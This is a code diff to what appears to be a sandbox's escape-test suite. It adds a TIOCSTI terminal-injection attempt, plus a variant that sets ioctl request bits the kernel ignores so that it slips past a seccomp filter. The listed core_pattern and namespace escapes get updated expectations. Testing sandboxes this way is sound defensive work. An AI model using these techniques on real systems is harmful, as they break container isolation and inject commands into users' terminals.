@@ -131,17 +131,28 @@ static int kill_cgfence(struct attempt *attempt)
 }
 
 /* Types a command for the shell that reads the terminal once this is over. */
-static int type_command(struct attempt *attempt)
+static int type_by(struct attempt *attempt, unsigned long request)
 {
 	char line[512];
 
 	snprintf(line, sizeof(line), "%s/escape send %s %d\n", attempt->directory, attempt->payload,
 		 ntohs(attempt->to.ipv4.sin_port));
 	for (const char *c = line; *c; c++)
-		if (ioctl(STDIN_FILENO, TIOCSTI, c))
+		if (syscall(SYS_ioctl, STDIN_FILENO, request, c))
 			return fail("TIOCSTI");
 	puts("OK");
 	return 0;
+}
+
+static int type_command(struct attempt *attempt)
+{
+	return type_by(attempt, TIOCSTI);
+}
+
+/* A filter sees 64 bits of what the kernel takes as 32. */
+static int type_high_bits(struct attempt *attempt)
+{
+	return type_by(attempt, TIOCSTI | 1UL << 32);
 }
 
 static int write_text(const char *path, const char *text)
@@ -198,12 +209,15 @@ static int core_pattern(struct attempt *attempt)
 
 const struct escape escape_break[] = {
 	{ "core-pattern", "a program that the kernel runs (`core_pattern`)", core_pattern,
-	  ROOT | ESCAPE_OPEN_DOCKER | ESCAPE_OPEN_FULL, "read-only `/proc/sys`",
-	  "root writes kernel settings" },
+	  ROOT | ESCAPE_OPEN_FULL, "read-only `/proc/sys`", "root writes kernel settings" },
 	{ "map-edit", "an entry of its own in the fence's maps", edit_map,
 	  ESCAPE_ONCE | ESCAPE_OPEN_FULL, "namespaces", "`CAP_SYS_ADMIN`" },
 	{ "terminal", "typing into the terminal of the caller (`TIOCSTI`)", type_command,
-	  ESCAPE_ONCE | ESCAPE_TERMINAL, "seccomp" },
+	  ESCAPE_ONCE | ESCAPE_TERMINAL | ESCAPE_OPEN_USER | ESCAPE_OPEN_DOCKER | ESCAPE_OPEN_FULL,
+	  "seccomp", "`--no-seccomp`" },
+	{ "terminal-high", "the same, with bits that the kernel ignores", type_high_bits,
+	  ESCAPE_ONCE | ESCAPE_TERMINAL | ESCAPE_OPEN_USER | ESCAPE_OPEN_DOCKER | ESCAPE_OPEN_FULL,
+	  "seccomp", "`--no-seccomp`" },
 	{ "detach", "detaching the fence's links", detach,
 	  ESCAPE_ONCE | ESCAPE_ALONE | ESCAPE_OPEN_FULL, "namespaces", "`CAP_SYS_ADMIN`" },
 	{ "unpin", "removing what is pinned", unpin, ESCAPE_ONCE | ESCAPE_ALONE | ESCAPE_OPEN_FULL,
